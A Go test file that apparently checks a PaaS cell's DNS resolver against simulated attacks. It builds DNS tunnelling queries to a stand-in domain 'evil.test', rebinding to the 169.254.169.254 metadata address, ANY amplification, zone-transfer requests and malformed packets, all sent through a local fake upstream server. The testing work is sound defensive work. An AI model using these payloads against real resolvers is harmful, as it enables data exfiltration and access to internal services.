package breach

import (
	"context"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"slices"
	"strings"
	"time"

	"github.com/miekg/dns"

	"github.com/dewpaas/dew/cf"
	"github.com/dewpaas/dew/vnet/resolver"
)

// nameAttacks go through the name server of the cell. Without its guard, and in
// front of containers, stands a relay that passes everything on and back.
func nameAttacks() []Attack {
	ask := func(name string, kind uint16) func(*street, string) [][]byte {
		return func(t *street, token string) [][]byte {
			return [][]byte{question(1, strings.ReplaceAll(name, "{token}", token), kind, dns.ClassINET)}
		}
	}
	leads := func(to func(*street) netip.Addr) func(*scene) bool {
		return func(s *scene) bool {
			return s.answers(func(m *dns.Msg) bool {
				return slices.ContainsFunc(m.Answer, func(r dns.RR) bool {
					a, ok := r.(*dns.A)
					return ok && a.A.String() == to(s.street).String()
				})
			}) > 0
		}
	}
	passed := func(s *scene) bool { return s.upstream.has(s.token) }
	neighbour := func(t *street) netip.Addr { return t.ann.addr }
	return []Attack{
		byName("dns-tunnel", "bytes reach a name server outside, of an app that may reach nothing there", func(t *cf.Topology) { t.Groups = nil }, passed, ask("{token}.evil.test", dns.TypeTXT)),
		byName("dns-tunnel-internal", "bytes reach a name server outside, in names that are internal", nil, passed, ask("{token}.apps.internal", dns.TypeA)),
		byName("dns-hidden-app", "the address of an app that no policy opens", nil, leads(neighbour), ask("ann.apps.internal", dns.TypeA)),
		byName("dns-tell-apart", "to know whether there is such an app", nil, toldApart, func(t *street, _ string) [][]byte {
			return [][]byte{question(1, "ann.apps.internal", dns.TypeA, dns.ClassINET), question(2, "nobody.apps.internal", dns.TypeA, dns.ClassINET)}
		}),
		byName("dns-rebind-metadata", "a name of its own leads to a cloud's metadata service", nil, leads(func(*street) netip.Addr { _, _, _, m := outside(); return m }), ask("metadata.evil.test", dns.TypeA)),
		byName("dns-rebind-neighbour", "a name of its own leads to a neighbour", nil, leads(neighbour), ask("neighbour.evil.test", dns.TypeA)),
		byName("dns-rebind-host", "a name of its own leads to the host", nil, leads(func(*street) netip.Addr { return hostAddr() }), ask("host.evil.test", dns.TypeA)),
		byName("dns-reverse", "the outside learns which neighbour it looks for", nil, func(s *scene) bool { return s.upstream.has("in-addr") }, func(t *street, _ string) [][]byte {
			name, _ := dns.ReverseAddr(t.ann.addr.String())
			return [][]byte{question(1, name, dns.TypePTR, dns.ClassINET)}
		}),
		byName("dns-amplify", "an answer eight times as long as its question", nil, func(s *scene) bool {
			return s.answers(func(m *dns.Msg) bool {
				return m.Id == 1 && m.Len() > 8*len(question(1, "big.evil.test", dns.TypeANY, dns.ClassINET))
			}) > 0
		}, ask("big.evil.test", dns.TypeANY)),
		byName("dns-zone", "a question for a whole zone reaches a name server outside", nil, passed, ask("{token}.evil.test", dns.TypeAXFR)),
		byName("dns-version", "what a name server outside says of itself", nil, func(s *scene) bool {
			return s.answers(func(m *dns.Msg) bool { return strings.Contains(m.String(), upstreamVersion) }) > 0
		}, func(*street, string) [][]byte {
			return [][]byte{question(1, "version.bind", dns.TypeTXT, dns.ClassCHAOS)}
		}),
		byName("dns-malformed", "messages that are none reach a name server outside", nil, passed, malformed),
		byName("dns-forge", "an answer that nobody asked for reaches a name server outside", nil, passed, func(_ *street, token string) [][]byte {
			b := question(1, token+".evil.test", dns.TypeA, dns.ClassINET)
			b[2] |= 0x80 // QR, RFC 1035 section 4.1.1
			return [][]byte{b}
		}),
	}
}

// byName is an attack by DNS messages, behind both kinds of tender and in
// containers.
func byName(name, goal string, change func(*cf.Topology), gained func(*scene) bool, messages func(t *street, token string) [][]byte) Attack {
	withNames := func(t *cf.Topology) {
		t.InternalDomains = []string{"apps.internal"}
		t.Names = []cf.InternalName{{Name: "ann.apps.internal", AppGUID: "ann", ProcessType: "web"}, {Name: "bob.apps.internal", AppGUID: "bob", ProcessType: "web"}}
		if change != nil {
			change(t)
		}
	}
	w := Witness{arrange: []func(*scene) error{onStreet(withNames, nil), openNames, func(s *scene) error {
		to := netip.AddrPortFrom(s.street.gateway, dnsPort)
		// The last is lawful: when it is answered the others have been looked at.
		for i, m := range append(messages(s.street, s.token), question(lastQuestion, "bob.apps.internal", dns.TypeA, dns.ClassINET)) {
			s.frames = append(s.frames, s.street.ip(udp(s.street.mal.at(uint16(3000+i)), to, m)))
			s.questions = append(s.questions, fmt.Sprintf("say-hex %s %d %s", to.Addr(), to.Port(), hex.EncodeToString(m)))
		}
		return nil
	}}, gained: func(s *scene) (bool, error) {
		if err := answeredAll(s); err != nil {
			return false, err
		}
		return gained(s), nil
	}}
	row := Row{Guard: names(), Steps: []string{"{frames}", "hold"}, Witness: w, Baseline: []string{"{questions}", "hold"}}
	process, metal := row, row
	process.Tender, metal.Tender = Process, QEMU
	return Attack{Name: name, Class: Names, Goal: goal, Rows: []Row{process, metal}}
}

// names are the cell's name server.
func names() Guard {
	return Guard{Name: "resolver", What: "names are answered by policy, outside ones only to who may reach the outside and none that lead inside (vnet/resolver)",
		off: func(s *scene) { s.relays = true }}
}

// lastQuestion is the ID of the lawful question behind an attack.
const lastQuestion = 0x7777

// answeredAll waits for its answer.
func answeredAll(s *scene) error {
	for end := time.Now().Add(10 * time.Second); s.answers(func(m *dns.Msg) bool { return m.Id == lastQuestion }) == 0; time.Sleep(2 * time.Millisecond) {
		if time.Now().After(end) {
			return errors.New("the lawful question behind the attack was not answered: names are not served")
		}
	}
	if !s.final && !s.off {
		time.Sleep(100 * time.Millisecond) // answers to the others may be on their way
		s.final = true
	}
	return nil
}

// answers counts DNS messages to the attacker for which f holds.
func (s *scene) answers(f func(*dns.Msg) bool) int {
	return s.street.delivered(func(b []byte) bool { m := answerIn(b); return m != nil && f(m) })
}

// toldApart: the answer about an app that is hidden is another than that about
// one that is not there.
func toldApart(s *scene) bool {
	var codes [2]int
	for i := range codes {
		codes[i] = -1
		s.answers(func(m *dns.Msg) bool {
			if m.Id == uint16(i+1) {
				codes[i] = m.Rcode<<8 | len(m.Answer)
			}
			return false
		})
	}
	return codes[0] >= 0 && codes[1] >= 0 && codes[0] != codes[1]
}

// question is a DNS message that asks.
func question(id uint16, name string, kind, class uint16) []byte {
	m := new(dns.Msg)
	m.SetQuestion(dns.Fqdn(name), kind)
	m.Id, m.Question[0].Qclass = id, class
	b, _ := m.Pack() // of names that are ours
	return b
}

// malformed are messages with a name in a circle, with more questions than there
// are, and with a label that is longer than the message.
func malformed(_ *street, token string) [][]byte {
	whole := func(id uint16) []byte { return question(id, token+".evil.test", dns.TypeA, dns.ClassINET) }
	circle, many, long := whole(1), whole(2), whole(3)
	binary.BigEndian.PutUint16(circle[len(circle)-5:], 0xc000|uint16(len(circle)-5)) // RFC 1035 section 4.1.4: a pointer, to itself
	binary.BigEndian.PutUint16(many[4:], 0xffff)
	long[12+1+len(token)] = 63
	return [][]byte{circle, many, long[:len(long)-4]}
}

// upstreamVersion is what the name server outside says of itself.
const upstreamVersion = "named 9.9.9 of the operator"

// openNames serves names on the street: the cell's resolver, or the relay, and
// behind either a name server outside.
func openNames(s *scene) error {
	up, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		return err
	}
	s.upstream = new(house)
	s.later(func() { up.Close() })
	go s.serveOutside(up)
	packets, streams, err := s.street.net.ListenGateway(dnsPort)
	if err != nil {
		return err
	}
	if s.relays || s.baseline != nil {
		streams.Close()
		s.later(func() { packets.Close() })
		go relay(packets, up.LocalAddr().(*net.UDPAddr))
		return nil
	}
	r := resolver.New(resolver.Config{Upstreams: []netip.AddrPort{up.LocalAddr().(*net.UDPAddr).AddrPort()}})
	if err := r.Update(resolver.SnapshotOf(s.street.topology)); err != nil {
		return err
	}
	ctx, stop := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { r.Serve(ctx, packets, streams); close(done) }()
	s.later(func() { stop(); <-done })
	return nil
}

// relay passes every datagram on and its answer back.
func relay(packets net.PacketConn, up *net.UDPAddr) {
	b := make([]byte, 4096)
	for {
		n, from, err := packets.ReadFrom(b)
		if err != nil {
			return
		}
		c, err := net.DialUDP("udp4", nil, up)
		if err != nil {
			continue
		}
		c.SetDeadline(time.Now().Add(time.Second))
		c.Write(b[:n])
		go func() {
			defer c.Close()
			answer := make([]byte, 4096)
			if n, err := c.Read(answer); err == nil {
				packets.WriteTo(answer[:n], from)
			}
		}()
	}
}

// serveOutside is a name server that anybody could have: it keeps what it is
// asked, and leads names wherever its owner wants.
func (s *scene) serveOutside(up *net.UDPConn) {
	leads := map[string]netip.Addr{"ann.apps.internal.": s.street.ann.addr, "bob.apps.internal.": s.street.bob.addr, "neighbour.evil.test.": s.street.ann.addr,
		"host.evil.test.": hostAddr(), "metadata.evil.test.": netip.AddrFrom4([4]byte{169, 254, 169, 254})}
	b := make([]byte, 4096)
	for {
		n, from, err := up.ReadFrom(b)
		if err != nil {
			return
		}
		s.upstream.put([]byte(strings.ToLower(string(b[:n]))))
		m := new(dns.Msg)
		if m.Unpack(b[:n]) != nil || len(m.Question) != 1 {
			continue
		}
		answer := new(dns.Msg)
		answer.SetReply(m)
		q := m.Question[0]
		head := dns.RR_Header{Name: q.Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60}
		to, known := leads[strings.ToLower(q.Name)]
		switch {
		case q.Qclass == dns.ClassCHAOS:
			head.Rrtype, head.Class = dns.TypeTXT, dns.ClassCHAOS
			answer.Answer = []dns.RR{&dns.TXT{Hdr: head, Txt: []string{upstreamVersion}}}
		case q.Qtype == dns.TypeANY:
			head.Rrtype = dns.TypeTXT
			answer.Answer = []dns.RR{&dns.TXT{Hdr: head, Txt: []string{strings.Repeat("long", 50), strings.Repeat("tall", 50)}}}
		case q.Qtype == dns.TypeA && known:
			answer.Answer = []dns.RR{&dns.A{Hdr: head, A: to.AsSlice()}}
		default:
			answer.Rcode = dns.RcodeNameError
		}
		if packed, err := answer.Pack(); err == nil {
			up.WriteTo(packed, from)
		}
	}
}
